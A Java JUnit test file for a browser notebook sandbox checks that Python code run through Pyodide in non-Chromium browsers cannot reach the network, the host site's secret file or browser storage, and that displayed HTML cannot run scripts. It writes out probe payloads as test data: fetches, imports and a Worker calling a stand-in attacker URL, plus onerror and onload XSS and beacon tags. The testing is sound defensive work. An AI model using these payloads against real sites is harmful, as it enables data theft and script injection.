package vivarium.tests.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import vivarium.model.json.Json;
import vivarium.tests.browser.others.OtherBrowser;
import vivarium.tests.browser.others.OtherBrowsers;
import vivarium.tests.browser.others.OtherBrowsers.Kind;

/** Code of others in browsers that are no Chromium. */
class SandboxElsewhereTest {
  @RegisterExtension static final OtherBrowsers BROWSERS = new OtherBrowsers();

  @AfterEach
  void the_attacker_has_heard_nothing() {
    assertThat(HostileSite.ATTACKER.heard()).isEmpty();
  }

  @ParameterizedTest
  @EnumSource
  void it_runs_and_reaches_neither_the_site_nor_the_network(Kind kind) {
    OtherBrowser browser = open(kind);
    List<String> lines =
        run(
                browser,
                """
                import asyncio, js
                from pyodide.code import run_js
                from pyodide.http import pyfetch
                print(6 * 7)
                for name, way in {
                    "fetch": lambda: js.fetch("URL"),
                    "pyfetch": lambda: pyfetch("URL"),
                    "own": lambda: js.fetch("OWNsecret.txt"),
                    "module": lambda: run_js("import('URL')"),
                    "worker": lambda: run_js("new Promise((yes, no) => { const it = new Worker(URL.createObjectURL(new Blob(['fetch(\\"URL\\").then(() => postMessage(1), () => postMessage(0))']))); it.onmessage = ({data}) => data ? yes() : no(new Error('refused')); })"),
                    "local": lambda: run_js("(async () => localStorage.length)()"),
                    "files": lambda: run_js("navigator.storage.getDirectory()"),
                    "database": lambda: run_js("new Promise((yes, no) => { const ask = indexedDB.open('vivarium'); ask.onsuccess = yes; ask.onerror = () => no(ask.error); })"),
                }.items():
                    try:
                        print(name, "reached", str(await asyncio.wait_for(way(), 5))[:80])
                    except BaseException as error:
                        print(name, "refused", str(error)[:120].replace(chr(10), " "))
                """
                    .replace("OWN", HostileSite.url())
                    .replace("\"URL\"", '"' + HostileSite.ATTACKER.url("x") + '"')
                    .replace("'URL'", "'" + HostileSite.ATTACKER.url("x") + "'"))
            .lines()
            .toList();
    assertThat(lines).hasSize(9).startsWith("42");
    assertThat(lines.subList(1, 9)).allSatisfy(line -> assertThat(line).contains("refused"));
  }

  @ParameterizedTest
  @EnumSource
  void stop_ends_what_never_ends(Kind kind) {
    OtherBrowser browser = open(kind);
    browser.evaluate(
        "void (document.getElementById('cell').code = 'print(1)\\nwhile True: pass',"
            + " document.getElementById('cell').run())");
    browser.until("document.querySelector('#cell .viv-output').textContent.includes('1')");
    browser.evaluate("document.getElementById('cell').stop()");
    browser.until("document.getElementById('cell').getAttribute('state') === 'stopped'");
    assertThat(run(browser, "print(6 * 7)")).isEqualTo("42");
  }

  @ParameterizedTest
  @EnumSource
  void what_it_shows_runs_and_loads_nothing(Kind kind) {
    OtherBrowser browser = open(kind);
    run(
        browser,
        """
        from IPython.display import HTML
        display(HTML('''<p>begin</p><img src="URL" onerror="top.hacked = 1"><svg onload="top.hacked = 1"></svg>
            <div style="background: url(URL)">x</div><meta http-equiv="refresh" content="0;url=URL"><p>end</p>'''))
        """
            .replace("URL", HostileSite.ATTACKER.url("beacon")));
    browser.until(
        "document.querySelector('#cell iframe')?.contentDocument?.body?.textContent.includes('end')");
    assertThat(browser.evaluate("String(window.hacked)")).isEqualTo("undefined");
    assertThat(browser.evaluate("String(document.querySelector('#cell iframe').offsetHeight > 30)"))
        .isEqualTo("true");
  }

  private static OtherBrowser open(Kind kind) {
    OtherBrowser browser = BROWSERS.get(kind);
    browser.open(HostileSite.url() + "closed.html");
    browser.until("document.getElementById('cell')?.run");
    return browser;
  }

  /** What is printed by code in the first cell. */
  private static String run(OtherBrowser browser, String code) {
    String text =
        """
        (async () => {
          const cell = document.getElementById("cell");
          cell.code = %s;
          const { outputs } = await cell.run();
          return outputs.map((output) => output.text ?? output.evalue ?? "").join("").trim();
        })()
        """
            .formatted(Json.of(code).text());
    return browser.evaluate(text);
  }
}
